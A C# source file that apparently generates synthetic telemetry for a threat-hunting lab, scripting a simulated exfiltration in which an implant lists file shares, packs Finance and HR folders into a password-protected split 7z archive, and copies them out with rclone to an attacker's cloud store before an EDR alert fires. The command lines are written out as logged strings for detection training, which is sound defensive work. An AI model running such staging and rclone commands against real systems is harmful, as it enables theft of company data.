using MdeHunting.Lab.Dataset.Estate;
using MdeHunting.Lab.Dataset.Recording;

namespace MdeHunting.Lab.Dataset.Story;

/// <summary>Day -4: three shares are packed into parts of two gigabytes. Day -3, from 21:04: rclone carries them out, for two hours and a half.</summary>
internal static class Exfiltration
{
    private const string Folder = @"C:\ProgramData\sync";
    private const int Parts = 6;

    public static void Record(Intrusion intrusion, RunningProcess serverImplant)
    {
        Stage(intrusion, serverImplant);
        CarryOut(intrusion, serverImplant);
    }

    private static void Stage(Intrusion intrusion, RunningProcess serverImplant)
    {
        var scene = intrusion.Scene;
        var shell = scene.Run(serverImplant, intrusion.At(-4, 20, 11, 6), "cmd.exe", "cmd.exe");
        scene.Run(shell, intrusion.At(-4, 20, 11, 48), "cmd.exe", @"cmd /c dir /s /b D:\Shares > C:\ProgramData\sync\l.txt");
        var packer = scene.Run(
            shell,
            intrusion.At(-4, 20, 14, 20),
            "7z.exe",
            $@"7z.exe a -mx1 -v2g -pH4rb0ur {Folder}\f.7z D:\Shares\Finance D:\Shares\HR ""D:\Shares\Tarjoukset Jyväskylä"""
        );

        for (var part = 1; part <= Parts; part++)
        {
            var size = part < Parts ? 2_147_483_648 : 731_906_048;
            var time = intrusion.At(-4, 20, 14 + (part * 7), 3 * part);
            scene.Touches(packer, time, "FileCreated", Folder, $"f.7z.{part:d3}", scene.Content($"archive part {part}", size));
        }
    }

    private static void CarryOut(Intrusion intrusion, RunningProcess serverImplant)
    {
        var scene = intrusion.Scene;
        var image = scene.Software.For("rclone.exe", Account.System);
        scene.Touches(serverImplant, intrusion.At(-3, 21, 1, 9), "FileCreated", image.Folder, image.FileName, image.Content);
        var shell = scene.Run(serverImplant, intrusion.At(-3, 21, 3, 30), "cmd.exe", "cmd.exe");
        var carrier = scene.Run(
            shell,
            intrusion.At(-3, 21, 4, 2),
            "rclone.exe",
            $@"{image.FullPath} copy {Folder} box:jkl --include f.7z.* --transfers 4 --no-check-certificate -q"
        );

        var end = intrusion.At(-3, 23, 34, 0);
        for (var time = intrusion.At(-3, 21, 4, 5); time < end; time += TimeSpan.FromMinutes(3) + intrusion.Dice.Within(TimeSpan.FromSeconds(10)))
        {
            scene.Connects(carrier, time, Attacker.StoreIP, 443, Attacker.StoreHost);
        }

        var kind = new AlertKind(
            "Possible data exfiltration by a file transfer tool",
            "Exfiltration",
            "Medium",
            AlertKind.Endpoint,
            "EDR",
            "Exfiltration to Cloud Storage (T1567.002)",
            "Archive via Utility (T1560.001)"
        );
        Alert
            .Raise(scene, intrusion.At(-3, 21, 40, 55), kind)
            .On(carrier.Machine)
            .By(Account.System)
            .Through(carrier)
            .To(Attacker.StoreIP, $"https://{Attacker.StoreHost}/")
            .About(image.Folder, image.FileName, image.Content);
    }
}
